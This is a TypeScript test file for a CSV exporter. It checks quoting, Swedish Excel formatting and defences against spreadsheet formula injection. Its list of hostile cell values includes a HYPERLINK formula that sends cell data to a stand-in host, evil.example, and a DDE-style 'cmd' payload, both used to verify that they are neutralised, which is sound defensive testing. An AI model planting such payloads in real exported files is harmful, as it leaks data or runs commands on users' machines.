import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import type { Column } from "./column.ts";
import { type CsvStyle, PLAIN_CSV, SWEDISH_EXCEL, toCsv } from "./csv.ts";

type Row = { readonly name: string | null; readonly places: number; readonly full: boolean };

const COLUMNS: readonly Column<Row>[] = [
  { name: "name", of: ({ name }) => name },
  { name: "places", of: ({ places }) => places },
  { name: "full", of: ({ full }) => full },
];

async function csvOf(rows: readonly Row[], style?: CsvStyle): Promise<string> {
  const pages = async function* () {
    for (const row of rows) yield [row];
  };
  return (await Array.fromAsync(toCsv(COLUMNS, pages(), style))).join("");
}

const named = (name: string | null) => ({ name, places: 2, full: false });

test("rows stand under their names, and every line ends as RFC 4180 has it", async () => {
  expect(await csvOf([named("Gymmet"), { name: null, places: -0.5, full: true }])).toBe(
    "name,places,full\r\nGymmet,2,false\r\n,-0.5,true\r\n",
  );
});

test.each(["a\nb", "a\rb", "a\r\nb", "a,b"])("%j stands in quotes", async (name) => {
  expect(await csvOf([named(name)])).toContain(`"${name}",2`);
});

test("without rows there are the names alone", async () => {
  expect(await csvOf([])).toBe("name,places,full\r\n");
});

describe.each([
  ["plain", PLAIN_CSV],
  ["for Excel in Swedish", SWEDISH_EXCEL],
  ["with tabs", { ...PLAIN_CSV, delimiter: "\t" }],
])("%s", (_, style) => {
  test.each([
    "Åsa & Örjans Kök, eftr.",
    'Café "Ägget"',
    "en rad;\nen till",
    "a\r\nb",
    "tabb\there",
    "👩‍🌾 Odling",
    "",
    " blank ",
    "1-2 gånger",
    "c/o A|B",
  ])("%j is read back as it was", async (name) => {
    const text = await csvOf([named(name), named("sist")], style);
    const [first, last] = parse(text, { delimiter: style.delimiter, bom: true, columns: true }) as Record<
      string,
      string
    >[];
    expect(first).toEqual({ name, places: "2", full: "false" });
    expect(last).toMatchObject({ name: "sist" });
  });
});

describe("a spreadsheet finds no formula in", () => {
  const HOSTILE = [
    '=HYPERLINK("https://evil.example?x="&A1,"Klicka")',
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "＠SUM(A1)",
    "Gymmet;=1+1",
    "Gymmet,=1+1",
    "Gymmet\t=1+1",
    "Gymmet|=1+1",
    "Gymmet\n=1+1",
    'Gymmet";"=1+1',
    'Gymmet; "=1+1',
    "a;=1;=2",
  ];

  test.each(HOSTILE)("%j, whatever separator it takes for one", async (name) => {
    for (const style of [PLAIN_CSV, SWEDISH_EXCEL]) {
      const text = await csvOf([named(name)], style);
      for (const delimiter of [",", ";", "\t", "|"]) {
        // Most programs that are given another separator than the file's do not mind quotes in the middle of a cell.
        const cells: string[][] = parse(text, {
          delimiter,
          bom: true,
          relax_quotes: true,
          relax_column_count: true,
        });
        const naive = text.split(/[,;\t|\r\n]/);
        for (const cell of [...cells.flat(), ...naive]) {
          expect(cell.replace(/^[\s"]+/, ""), `by ${JSON.stringify(delimiter)}`).not.toMatch(
            /^[=+\-@＝＋－＠]/,
          );
        }
      }
    }
  });

  test("what some programs drop before they look at the rest", async () => {
    expect(await csvOf([named("\tx")])).toContain("'\tx,2");
    expect(await csvOf([named("\rx")])).toContain('"\'\rx",2');
  });

  test("a number below nothing, which stays a number", async () => {
    expect(await csvOf([{ name: "x", places: -3, full: false }])).toContain("x,-3,false");
  });
});

test("Excel in Swedish gets a byte order mark once, semicolons and decimal commas", async () => {
  const text = await csvOf([{ name: "a;b", places: 2.5, full: false }, named("c")], SWEDISH_EXCEL);
  expect(text).toBe('\uFEFFname;places;full\r\n"a;b";2,5;false\r\nc;2;false\r\n');
});
